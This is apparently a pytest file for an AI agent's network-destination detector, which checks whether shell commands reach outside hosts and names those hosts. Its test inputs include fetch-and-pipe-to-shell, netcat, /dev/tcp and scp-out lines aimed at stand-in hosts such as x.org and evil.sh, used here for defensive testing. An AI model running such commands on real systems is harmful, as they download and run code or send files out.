"""What a command reaches is told by the programs that it runs, not by any of its words."""

from __future__ import annotations

import pytest

from hermes.agent.danger.destinations import UNTOLD, destinations, prints_own, reaches_out


@pytest.mark.parametrize(
    "command",
    [
        "which curl",
        "grep -rn curl src",
        "man ssh",
        "git log --oneline | grep fetch",
        "cat README.md | grep ssh",
        "apt list --installed | grep wget",
        "git commit -m 'fetch https://x.org/a, then push'",
        "git remote -v",
        "echo 'curl https://x.org' >> notes.md",
        "grep -rn https://x.org docs",
        "curl --version",
        "npm run build && npm test",
        "go test ./...",
        "ls docs/links && cat links/fetch",
        "getent passwd ann",
    ],
)
def test_words_about_programs_reach_nothing(command: str) -> None:
    assert not reaches_out(command) and not destinations(command)


@pytest.mark.parametrize(
    ("command", "hosts"),
    [
        ("pip install -r requirements.txt && python -m app.server", ()),
        ("git fetch && git diff main.tsx", ()),
        ("npm install lodash.merge && vite --config vite.config.mts", ()),
        ("git push origin v1.2.beta", ()),
        ("curl -s https://x.org/a", ("x.org",)),
        ("H=x.org; curl -s http://$H/a", ("x.org",)),
        ("sudo timeout 5 env A=b curl x.org", ("x.org",)),
        ("bash -c 'wget -q x.org/a.sh'", ("x.org",)),
        ('eval "curl x.org"', ("x.org",)),
        ("cat list | xargs -n1 curl x.org", ("x.org",)),
        ("find . -name a -exec scp {} bob@x.org:/ \\;", ("x.org",)),
        ("echo 'curl http://x.org/a' | sh", ("x.org",)),
        ("python3 - <<'E'\nimport urllib.request as u\nu.urlopen('http://x.org/a')\nE", ("x.org",)),
        ("python3 -c \"open_url('http://x.org/a')\"", ("x.org",)),
        ("x=$(curl -s x.org)", ("x.org",)),
        ("if true; then nc 203.0.113.7 80 < a; fi", ("203.0.113.7",)),
        ("exec 3<>/dev/tcp/203.0.113.7/80", ("203.0.113.7",)),
        ("git remote add x git@x.org:a/b; git push x", ("x.org",)),
        ("git config remote.x.url https://x.org/a; git push x", ("x.org",)),
        ("docker pull x.org/a/b", ("x.org",)),
        ("curl evil.sh/a", ("evil.sh",)),
        ("curl $(cat u)", (UNTOLD,)),
        ("curl -K cfg", (UNTOLD,)),
        ("wget -i list.txt", (UNTOLD,)),
        ("curl http://localhost:8000/a", ()),
        ("curl x.org 'unfinished", ("x.org",)),
    ],
)
def test_what_runs_tells_where_it_leads(command: str, hosts: tuple[str, ...]) -> None:
    assert reaches_out(command) and destinations(command) == hosts


def test_what_a_command_prints_by_itself_is_nobodys() -> None:
    assert prints_own("date +%F && mkdir -p a/b; echo done")
    assert not prints_own("echo $(cat notes.md)") and not prints_own("date; cat a") and not prints_own("")
